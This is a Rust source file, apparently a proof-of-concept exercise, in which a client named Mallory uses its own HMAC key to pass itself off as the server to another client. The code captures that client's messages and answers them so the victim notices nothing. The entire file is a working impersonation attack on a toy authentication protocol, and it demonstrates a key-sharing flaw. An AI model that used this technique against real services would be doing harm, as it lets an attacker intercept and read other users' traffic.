//! A client with a key of its own, Mallory, that poses as the server to another client.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::time::Duration;

use hmac::{Hmac, KeyInit, Mac};
use sha2::Sha256;

/// What the server gave to Mallory, who logs in with it every day.
const MY_KEY: &[u8; 32] = b"the key that mallory was given..";
/// How long a client may keep it waiting.
const TIMEOUT: Duration = Duration::from_secs(5);

/// Waits for another client of the server. It needs nothing of the server itself.
pub fn attack(_server: SocketAddr) -> io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    println!("listening on {}", listener.local_addr()?);
    let (mut victim, _) = listener.accept()?;
    victim.set_read_timeout(Some(TIMEOUT))?;
    let nonce = [0; 32]; // any nonce will do
    victim.write_all(&nonce)?;
    let (mut hello, mut tag) = ([0; 33], [0; 32]);
    victim.read_exact(&mut hello)?;
    victim.read_exact(&mut tag)?;

    let mac = Hmac::<Sha256>::new_from_slice(MY_KEY).map_err(io::Error::other)?;
    let mac = mac.chain_update("server").chain_update(nonce).chain_update(hello);
    victim.write_all(&mac.finalize().into_bytes())?; // "I am the server", proved with the key of a client

    let mut piece = [0; 1024];
    let mut told = 0;
    loop {
        let got = victim.read(&mut piece)?;
        if got == 0 {
            break;
        }
        println!("told as the server: {}", String::from_utf8_lossy(&piece[..got]));
        victim.write_all(&piece[..got].to_ascii_uppercase())?; // the client is to notice nothing
        told += got;
    }
    if told == 0 {
        return Err(io::Error::other("the other client did not take the key of this one for that of the server"));
    }
    Ok(())
}
